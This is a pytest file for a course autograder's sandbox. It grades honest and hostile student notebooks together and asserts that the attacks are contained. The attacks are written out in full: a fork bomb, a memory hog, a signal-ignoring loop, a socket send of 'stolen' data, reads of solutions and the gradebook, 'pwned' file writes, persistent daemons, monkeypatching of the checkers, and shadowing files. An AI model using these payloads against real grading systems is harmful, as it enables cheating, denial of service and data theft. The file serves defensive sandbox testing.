"""Hostile submissions, graded in one batch together with honest ones.

Every hostile student answers every exercise correctly (the alternative solutions)
except where the attack is, so each test can say exactly which points must be kept
and which lost. The attacks: an infinite loop that ignores SIGINT/SIGTERM,
``os._exit``, a segfault, a bounded memory hog, a fork bomb, a 100 MB print, a
network connection to a listener this test starts, reading the instructor's
``source/``, the gradebook and another student's notebook, writing into the course
package and the course root, processes that try to outlive grading, rebinding and
monkeypatching what the tests rely on, and files next to the notebook that try to
shadow the course's code. Limits are small here so that the batch stays quick.
"""

from __future__ import annotations

import os
import socket
import threading
from pathlib import Path

import nbformat
import pytest

from course.assignments import resolve
from course.grading import Limits, by_exercise, grade_in_scratch
from course.grading.sandbox import MiB, sandbox_problem
from course.notebooks import fill
from proof import ROOT, load_solutions

PROBLEM = sandbox_problem()
pytestmark = [
    pytest.mark.slow,
    pytest.mark.xdist_group("hostile"),
    pytest.mark.skipif(PROBLEM is not None, reason=f"needs a bubblewrap sandbox: {PROBLEM}"),
]

ASSIGNMENT = "01_tensors"
LIMITS = Limits(cell_timeout=15, notebook_timeout=120, memory=512 * MiB, processes=32)
ATTACKED = "outer"  # resource attacks go in this answer cell (the 10th of 15 exercises)
WRONG = "one_hot"  # tampering students answer this one wrongly
MARKER = str(900000 + os.getpid() % 90000)  # in the command line of processes meant to outlive grading
COURSE_DIR = Path(__import__("course").__file__).resolve().parent

WRONG_ONE_HOT = '''
def one_hot(labels, num_classes):
    return torch.zeros(len(labels), num_classes)  # wrong: all zeros
'''

TAMPERING = {
    "tamper_torch": '''
import numpy as np, numpy.testing, torch, torch.testing
torch.testing.assert_close = lambda *a, **k: None
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.Tensor.equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
np.allclose = lambda *a, **k: True
''',
    "tamper_course": '''
import course.checks, course.checks.compare as c
c.compare_close = lambda *a, **k: None
c.compare_equal = lambda *a, **k: None
c.check_close = lambda *a, **k: None
course.checks.check_close = lambda *a, **k: None
''',
    "tamper_names": '''
check_close = lambda *a, **k: None
check_raises = lambda *a, **k: None
check = lambda *a, **k: None
forbid_calls = lambda *a, **k: None
''',
    "tamper_ipython": '''
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"] if any("check_" in l for l in lines) else lines)
''',
}
DURING_TEST = '''
def one_hot(labels, num_classes):
    import course.checks.compare as c
    c.compare_close = lambda *a, **k: None  # patched while the test runs, after restore
    return torch.zeros(len(labels), num_classes)
'''
FAKE_MODULE = '''
import sys, types
fake = types.ModuleType("course.checks.tensors")
fake.check_attributes = fake.check_numpy_views = fake.check_to_layout = fake.check_mask = lambda *a, **k: None
sys.modules["course.checks.tensors"] = fake

def tensor_attributes(t):
    return {}  # wrong
'''
SHADOW_FILES = {
    "course/__init__.py": "",
    "course/checks/__init__.py": "def check_close(*a, **k): pass\ncheck = check_raises = forbid_calls = forbid_loops = call = check_close\n",
    "sitecustomize.py": "import torch.testing\ntorch.testing.assert_close = lambda *a, **k: None\n",
    "conftest.py": "import torch\ntorch.allclose = lambda *a, **k: True\n",
    "torch.py": "raise SystemExit('a fake torch')\n",
}


def resource_attacks(port: int, workdir: Path) -> dict[str, str]:
    secrets = [workdir / "source" / ASSIGNMENT / "tensors.ipynb", workdir / "gradebook.db",
               workdir / "submitted" / "honest_1" / ASSIGNMENT / "tensors.ipynb", ROOT / "source"]
    targets = [COURSE_DIR / "checks" / f"pwned_{MARKER}.py", workdir / f"pwned_{MARKER}",
               workdir / "autograded" / f"pwned_{MARKER}"]
    return {
        "loop": '''
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    pass
''',
        "exit": "import os\nos._exit(3)",
        "segfault": "import ctypes\nctypes.string_at(0)",
        "memory": "blocks = [bytearray(64 << 20) for _ in range(64)]  # 4 GiB, in 64 MiB steps",
        "forkbomb": '''
import os, time
for _ in range(500):
    if os.fork() == 0:
        time.sleep(600)
        os._exit(0)
''',
        "print": "print('x' * 100_000_000)",
        # three nested user+pid namespaces, each touching 300 MiB: 900 MiB against a 512 MiB cap
        "nested_namespaces": '''
import subprocess, sys, time
touch = "b = bytearray(300 << 20)\\nfor i in range(0, len(b), 4096): b[i] = 1\\nimport time; time.sleep(60)"
procs = [subprocess.Popen(["unshare", "--user", "--pid", "--fork", sys.executable, "-c", touch]) for _ in range(3)]
time.sleep(30)
print("NOT STOPPED", [p.poll() for p in procs])
''',
        # output metadata and error outputs count too
        "metadata_flood": '''
from IPython.display import display
for _ in range(8):
    display({"text/plain": "x"}, metadata={"junk": "m" * 4_000_000}, raw=True)
raise ValueError("e" * 30_000_000)
''',
        "network": f'''
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"stolen")
    print("CONNECTED")
except OSError as error:
    print("blocked:", error)
''',
        "snoop": f'''
import os
for path in {[str(p) for p in secrets]!r}:
    try:
        print("READ", path, len(open(path, "rb").read()) if os.path.isfile(path) else os.listdir(path))
    except OSError as error:
        print("blocked:", type(error).__name__)
''',
        "write": f'''
import os
for path in {[str(p) for p in targets]!r}:
    try:
        with open(path, "w") as handle:
            handle.write("pwned")
        print("WROTE", path)
    except OSError as error:
        print("blocked:", type(error).__name__)
''',
        "background": f'''
import os, signal, subprocess, time
subprocess.Popen(["sleep", "{MARKER}"], start_new_session=True)
if os.fork() == 0:  # a daemon: double fork, new session, SIGTERM ignored
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        os.execvp("sleep", ["sleep", "{int(MARKER) + 1}"])
    os._exit(0)
time.sleep(0.5)
''',
    }


class Listener:
    """A TCP listener on 127.0.0.1 that records whatever connects to it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while self.running:
            try:
                conn, _ = self.sock.accept()
                self.received.append(conn.recv(100) or b"<connected>")
                conn.close()
            except (socket.timeout, OSError):
                continue

    def close(self):
        self.running = False
        self.thread.join()
        self.sock.close()


def _answer_with(code: str, right: dict) -> dict:
    return {**right, ATTACKED: code + "\n\n" + right[ATTACKED]}


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    (assignment,) = resolve(ROOT, [ASSIGNMENT])
    released = nbformat.read(ROOT / "release" / ASSIGNMENT / assignment.notebook, as_version=4)
    right = load_solutions(ASSIGNMENT).ALTERNATIVES
    workdir = tmp_path_factory.mktemp("hostile")
    listener = Listener()
    submissions = {f"honest_{i}": fill(released, right) for i in (1, 2, 3)}
    for name, code in resource_attacks(listener.port, workdir).items():
        if name == "metadata_flood":  # it ends its own cell with an error: the points of that cell go
            submissions[name] = fill(released, {**right, "eye": code})
            continue
        submissions[name] = fill(released, _answer_with(code, right))
    for name, code in TAMPERING.items():
        submissions[name] = fill(released, {**right, WRONG: code + "\n" + WRONG_ONE_HOT})
    submissions["tamper_during_test"] = fill(released, {**right, WRONG: DURING_TEST})
    submissions["tamper_modules"] = fill(released, {**right, "tensor_attributes": FAKE_MODULE})
    submissions["shadow"] = fill(released, {**right, WRONG: WRONG_ONE_HOT})
    for relpath, text in SHADOW_FILES.items():  # files next to the notebook
        path = workdir / "submitted" / "shadow" / ASSIGNMENT / relpath
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    try:
        results = grade_in_scratch(ROOT, assignment, submissions, workdir, limits=LIMITS, unsafe=False, jobs=2)
    finally:
        listener.close()
    return assignment, results, workdir, listener


def scores(batch, student):
    assignment, results, _, _ = batch
    return by_exercise(results[student], assignment.exercises)


def outputs(batch, student) -> str:
    assignment, _, workdir, _ = batch
    nb = nbformat.read(workdir / "autograded" / student / ASSIGNMENT / assignment.notebook, as_version=4)
    return "\n".join(o.get("text", "") for c in nb.cells if c.cell_type == "code" for o in c.outputs)


def before_and_after(assignment, exercise):
    index = assignment.exercises.index(exercise)
    return assignment.exercises[:index], assignment.exercises[index:]


def test_every_student_gets_one_row_with_a_one_line_message(batch):
    _, results, _, _ = batch
    assert len(results) == 22
    for r in results.values():
        assert r.status in ("graded", "timeout", "killed", "crashed"), (r.student_id, r.status, r.message)
        assert "\n" not in r.message


def test_honest_students_get_every_point(batch):
    _, results, _, _ = batch
    for name in ("honest_1", "honest_2", "honest_3"):
        r = results[name]
        assert (r.status, r.message) == ("graded", ""), r.message
        assert r.score == r.max_score, r.cells


@pytest.mark.parametrize("student, status, words", [
    ("loop", "timeout", "ran longer than 15 s"),
    ("exit", "crashed", "exit status 3"),
    ("segfault", "crashed", "segmentation fault"),
    ("memory", "killed", "more than 512 MiB of memory"),
    ("forkbomb", "killed", "more than 32 processes"),
])
def test_a_stopped_notebook_keeps_the_points_earned_before(batch, student, status, words):
    assignment, results, _, _ = batch
    r = results[student]
    assert r.status == status and words in r.message and f"answer cell {ATTACKED}" in r.message.lower(), r.message
    before, after = before_and_after(assignment, ATTACKED)
    got = scores(batch, student)
    assert all(got[e][0] == got[e][1] for e in before), got
    assert all(got[e][0] == 0 for e in after), got


def test_memory_is_counted_across_nested_namespaces(batch):
    r = batch[1]["nested_namespaces"]
    assert r.status == "killed" and "more than 512 MiB of memory" in r.message, r.message
    assert "NOT STOPPED" not in outputs(batch, "nested_namespaces")


def test_every_output_byte_counts(batch):
    assignment, results, workdir, _ = batch
    r = results["metadata_flood"]
    size = (workdir / "autograded" / "metadata_flood" / ASSIGNMENT / assignment.notebook).stat().st_size
    assert size < 3 * MiB, size
    got = scores(batch, "metadata_flood")
    assert got["eye"][0] == 0 and all(s == top for e, (s, top) in got.items() if e != "eye"), got
    assert r.status == "graded", r.message


def test_a_huge_print_is_cut_off_and_costs_nothing(batch):
    assignment, results, workdir, _ = batch
    r = results["print"]
    assert (r.status, r.score) == ("graded", r.max_score), r.message
    size = (workdir / "autograded" / "print" / ASSIGNMENT / assignment.notebook).stat().st_size
    assert size < 3 * MiB
    assert "output truncated" in outputs(batch, "print")


def test_there_is_no_network(batch):
    _, results, _, listener = batch
    assert listener.received == []
    assert "CONNECTED" not in outputs(batch, "network") and "blocked:" in outputs(batch, "network")
    assert results["network"].score == results["network"].max_score


def test_course_files_and_other_students_are_out_of_reach(batch):
    text = outputs(batch, "snoop")
    assert "READ" not in text and text.count("blocked:") == 4, text


def test_nothing_outside_the_scratch_folder_is_writable(batch):
    _, _, workdir, _ = batch
    text = outputs(batch, "write")
    assert "WROTE" not in text and text.count("blocked:") == 3, text
    assert not (COURSE_DIR / "checks" / f"pwned_{MARKER}.py").exists()
    assert not (workdir / f"pwned_{MARKER}").exists() and not (workdir / "autograded" / f"pwned_{MARKER}").exists()


def test_no_process_outlives_grading(batch):
    _, results, _, _ = batch
    assert results["background"].score == results["background"].max_score
    survivors = []
    for entry in os.listdir("/proc"):
        try:
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes().replace(b"\0", b" ").decode()
        except OSError:
            continue
        if MARKER in cmdline or str(int(MARKER) + 1) in cmdline:
            survivors.append(cmdline)
    assert not survivors


@pytest.mark.parametrize("student", [*TAMPERING, "tamper_during_test", "shadow"])
def test_tampering_does_not_turn_a_wrong_answer_into_points(batch, student):
    got = scores(batch, student)
    assert got[WRONG][0] == 0, f"{student}: the wrong {WRONG} scores {got[WRONG]}"
    assert all(s == top for e, (s, top) in got.items() if e != WRONG), got


def test_a_planted_module_does_not_replace_the_course_checks(batch):
    got = scores(batch, "tamper_modules")
    assert got["tensor_attributes"][0] == 0
    assert all(s == top for e, (s, top) in got.items() if e != "tensor_attributes"), got


# -- state one submission leaves for the next one in the same worker ------------------------

PLANT = '''
import ctypes, os, platform, subprocess
libc = ctypes.CDLL(None, use_errno=True)
planted = []
for key in (0x51A7, 0x51A8, 0x51A9):  # System V shared memory, created and detached
    if libc.shmget(key, 64 << 20, 0o1666) >= 0:
        planted.append("shm")
libc.mq_open.restype = ctypes.c_int
if libc.mq_open(b"/loot", os.O_CREAT | os.O_RDWR, 0o666, None) >= 0:  # a POSIX message queue
    planted.append("mq")
KEYCTL = {"x86_64": 248, "aarch64": 217}[platform.machine()]  # add_key
if libc.syscall(KEYCTL, b"user", b"loot", b"secret", 6, ctypes.c_long(-4)) > 0:  # in the user keyring
    planted.append("key")
home = os.getcwd()
for _ in range(20_000):  # in its scratch folder, deeper than any recursive clean-up can go
    os.mkdir("d")
    os.chdir("d")
os.chdir(home)
print("PLANTED", " ".join(planted))
'''
FIND = '''
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
found = [f"shm {key:#x}" for key in (0x51A7, 0x51A8, 0x51A9) if libc.shmget(key, 0, 0) >= 0]
found += [line for line in open("/proc/sysvipc/shm").read().splitlines()[1:] if line.strip()]
libc.mq_open.restype = ctypes.c_int
if libc.mq_open(b"/loot", os.O_RDONLY, 0, None) >= 0:
    found.append("mq")
search = {"x86_64": 250, "aarch64": 219}[platform.machine()]
if libc.syscall(search, 10, ctypes.c_long(-4), b"user", b"loot", 0) > 0:  # KEYCTL_SEARCH the user keyring
    found.append("key")
print("FOUND" if found else "NOTHING LEFT", found)
'''


@pytest.fixture(scope="module")
def sequential(tmp_path_factory):
    """Two students graded one after the other by one worker (same sandbox, same uid)."""
    (assignment,) = resolve(ROOT, [ASSIGNMENT])
    released = nbformat.read(ROOT / "release" / ASSIGNMENT / assignment.notebook, as_version=4)
    right = load_solutions(ASSIGNMENT).ALTERNATIVES
    submissions = {"a_plant": fill(released, _answer_with(PLANT, right)),
                   "b_find": fill(released, _answer_with(FIND, right))}
    workdir = tmp_path_factory.mktemp("sequential")
    results = grade_in_scratch(ROOT, assignment, submissions, workdir, limits=LIMITS, unsafe=False, jobs=1)
    return assignment, results, workdir, None


def test_nothing_crosses_from_one_submission_to_the_next(sequential):
    _, results, _, _ = sequential
    planted = outputs(sequential, "a_plant")
    assert "PLANTED shm shm shm mq key" in planted, planted  # the attack itself worked
    found = outputs(sequential, "b_find")
    assert "NOTHING LEFT" in found, found
    for student in ("a_plant", "b_find"):
        r = results[student]
        assert (r.status, r.score, r.message) == ("graded", r.max_score, ""), (student, r.status, r.message)
